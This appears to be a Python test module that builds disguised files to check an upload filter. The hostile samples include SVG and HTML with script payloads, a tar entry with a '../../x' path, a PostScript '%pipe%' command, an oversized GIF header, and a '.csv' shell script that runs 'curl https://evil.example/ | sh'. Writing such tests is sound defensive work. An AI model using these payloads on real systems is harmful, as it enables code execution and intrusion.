"""Files of other kinds under names that are let in."""

import gzip
import tarfile
import wave
from collections.abc import Callable
from io import BytesIO
from random import Random

from .. import bases, words
from ..case import Made, Outcome, hostile
from ..compound import compound_file
from ..packages import opened, packed

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('https://evil.example/')</script><p>Report</p></body></html>"
PROGRAM = (
    b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + b"\0" * 44 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 300
)


def _image(form: str) -> Callable[[Random], bytes]:
    def make(rng: Random) -> bytes:
        stream = BytesIO()
        bases.picture(rng).save(stream, form)
        return stream.getvalue()

    return make


def _sound(rng: Random) -> bytes:
    stream = BytesIO()
    with wave.open(stream, "wb") as sound:
        sound.setparams((1, 2, 8000, 0, "NONE", ""))
        sound.writeframes(rng.randbytes(4000))
    return stream.getvalue()


def _tar(rng: Random) -> bytes:
    stream = BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../x"), BytesIO(b""))
    return stream.getvalue()


def _book(rng: Random) -> bytes:
    return packed({"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<container/>"})


def _drawing(rng: Random) -> bytes:
    package = opened(bases.open_text(rng))
    package["mimetype"] = b"application/vnd.oasis.opendocument.graphics"
    return packed(package)


def _jar(rng: Random) -> bytes:
    return packed(
        {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: X\n", "X.class": b"\xca\xfe\xba\xbe"}
    )


KINDS: dict[str, tuple[bytes, Callable[[Random], bytes], tuple[str, ...]]] = {
    "a drawing with scripts": (b"<svg", lambda rng: SVG, ("png", "jpg", "csv", "pdf", "docx")),
    "a drawing after an XML head": (b"<?xml", lambda rng: b'<?xml version="1.0"?>\n' + SVG, ("png", "csv", "odt")),
    "a web page": (b"<!DOCTYPE", lambda rng: HTML, ("png", "jpg", "csv", "pdf", "docx", "xlsx")),
    "a web page after blanks": (b"   ", lambda rng: b"   \n\t" + HTML, ("csv", "pdf", "png")),
    "a web archive": (b"MIME", lambda rng: b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML, ("docx",)),
    "rich text": (b"{\\rtf", lambda rng: b"{\\rtf1\\ansi{\\object\\objemb}}", ("docx", "odt", "pdf", "csv")),
    "an old Word file": (b"\xd0\xcf", lambda rng: compound_file({"WordDocument": b"x" * 900}), ("docx", "odt")),
    "an old Excel file": (b"\xd0\xcf", lambda rng: compound_file({"Workbook": b"x"}), ("xlsx", "ods", "csv")),
    "a Windows program": (b"MZ", lambda rng: PROGRAM, ("pdf", "docx", "png", "csv")),
    "a Linux program": (b"\x7fELF", lambda rng: b"\x7fELF\2\1\1" + b"\0" * 200, ("png", "pdf", "csv")),
    "a Java program": (b"PK", _jar, ("docx", "odt", "xlsx")),
    "an electronic book": (b"PK", _book, ("odt", "docx")),
    "an OpenDocument drawing": (b"PK", _drawing, ("odt", "odp")),
    "a moving picture": (b"GIF8", _image("GIF"), ("png", "jpg")),
    "a WebP picture": (b"RIFF", _image("WEBP"), ("png", "jpg")),
    "a TIFF picture": (b"II*\0", _image("TIFF"), ("jpg", "png")),
    "a BMP picture": (b"BM", _image("BMP"), ("png", "jpg")),
    "an icon": (b"\0\0\1\0", _image("ICO"), ("png",)),
    "sound": (b"RIFF", _sound, ("jpg", "pdf")),
    "a compressed file": (b"\x1f\x8b", lambda rng: gzip.compress(bases.table(rng), mtime=0), ("docx", "csv")),
    "a tar archive": (b"../../x", _tar, ("docx", "csv", "pdf")),
    "a 7-Zip archive": (b"7z\xbc\xaf", lambda rng: b"7z\xbc\xaf'\x1c\0\4" + rng.randbytes(200), ("docx", "xlsx")),
    "a RAR archive": (b"Rar!", lambda rng: b"Rar!\x1a\7\1\0" + rng.randbytes(200), ("docx", "pptx")),
    "a database": (b"SQLite", lambda rng: b"SQLite format 3\0" + b"\0" * 500, ("xlsx", "csv")),
    "PostScript": (b"%!PS", lambda rng: b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n", ("pdf", "csv")),
    "noise": (b"", lambda rng: rng.randbytes(5000), tuple(bases.BASES)),
}  # fmt: skip
for what, (magic, content, endings) in KINDS.items():

    @hostile(f"{what} by another name", lambda data, magic=magic: magic in data)
    def disguised(rng: Random, content: Callable = content, endings: tuple[str, ...] = endings) -> Made:
        return words.file_name(rng, rng.choice(endings)), content(rng)


@hostile("one allowed format by another's name", lambda data: True)
def swapped(rng: Random) -> Made:
    real, said = rng.sample([each for each in bases.BASES if each != "csv"], 2)
    return words.file_name(rng, said), bases.BASES[real](rng)


@hostile("an ending that is not let in", lambda data: True)
def ending(rng: Random) -> Made:
    said = rng.choice(
        ("exe", "docm", "xlsm", "svg", "html", "js", "zip", "doc", "dotx", "pdf.exe", "csv.bat", "docx ")
    )
    return words.file_name(rng, said).rstrip(), rng.choice([*bases.BASES.values()])(rng)


@hostile("a shell script as csv", lambda data: data.startswith(b"#!"), Outcome.EITHER)
def script(rng: Random) -> Made:
    return words.file_name(rng, "csv"), b"#!/bin/sh\ncurl https://evil.example/ | sh\n"


@hostile(
    "an enormous picture of another format", lambda data: data.startswith(b"GIF8") and data[6:10] == b"\xff" * 4
)
def huge_gif(rng: Random) -> Made:
    data = bytearray(_image("GIF")(rng))
    data[6:10] = b"\xff\xff\xff\xff"
    return words.file_name(rng, rng.choice(("png", "jpg"))), bytes(data)
